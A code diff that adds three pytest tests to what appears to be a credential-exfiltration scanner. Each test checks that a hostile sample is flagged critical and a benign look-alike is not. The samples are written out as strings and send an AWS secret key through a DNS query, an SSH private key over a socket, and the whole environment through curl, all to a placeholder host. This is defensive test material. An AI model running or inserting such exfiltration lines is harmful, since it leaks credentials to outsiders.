@@ -415,3 +415,51 @@ def test_a_credential_file_read_into_a_request_is_critical_but_naming_it_is_not(
         "    return requests.post(url, data=sign(body, profile()))\n"
     )
     assert "PV-EXF-COMBO" not in ids(run(ALL, sdk))
+
+
+def test_a_cloud_key_spelled_into_a_dns_query_is_sent() -> None:
+    """The query name carries the key to whoever serves the zone; a region in a service's own
+    host name is configuration."""
+    bad = py(
+        "import os, socket, base64\n"
+        "k = os.environ.get('AWS_SECRET_ACCESS_KEY', '')\n"
+        "socket.gethostbyname(base64.b32encode(k.encode()).decode().strip('=') + '.x.invalid')\n"
+    )
+    found = [f for f in run(R, bad) if f.rule == "PV-EXF-CREDENTIAL"]
+    assert [(f.severity, f.line) for f in found] == [(Severity.CRITICAL, 3)]
+    assert "DNS" in found[0].message
+    region = py(
+        "import os, socket\nsocket.gethostbyname('s3.' + os.environ['AWS_REGION'] + '.amazonaws.com')\n"
+    )
+    assert "PV-EXF-CREDENTIAL" not in ids(run(R, region))
+
+
+def test_a_key_file_written_to_a_socket_is_sent() -> None:
+    bad = py(
+        "import os, socket\n"
+        "s = socket.create_connection(('x.invalid', 443))\n"
+        "s.sendall(open(os.path.expanduser('~/.ssh/id_rsa'), 'rb').read())\n"
+    )
+    found = [f for f in run(ALL, bad) if f.rule == "PV-EXF-COMBO"]
+    assert [(f.severity, f.line) for f in found] == [(Severity.CRITICAL, 3)]
+    client = py(
+        "import os, socket\n"
+        "KEY = os.path.expanduser('~/.ssh/id_rsa')\n"
+        "s = socket.create_connection(('example.com', 22))\n"
+        "s.sendall(sign(open(KEY, 'rb').read(), challenge))\n"
+    )
+    assert "PV-EXF-COMBO" not in ids(run(ALL, client))
+
+
+def test_curl_handed_the_environment_as_a_list_sends_it() -> None:
+    bad = py(
+        "import os, json, subprocess\n"
+        "subprocess.run(['curl', '-d', json.dumps(dict(os.environ)), 'http://x.invalid/c'])\n"
+    )
+    assert [f.severity for f in run(ALL, bad) if f.rule == "PV-EXF-COMBO"] == [Severity.CRITICAL]
+    fetch = py(
+        "import os, json, subprocess\n"
+        "env = json.dumps(dict(os.environ))\n"
+        "subprocess.run(['curl', '-o', 'out.tgz', 'https://example.com/x.tgz'])\n"
+    )
+    assert "PV-EXF-COMBO" not in ids(run(ALL, fetch))
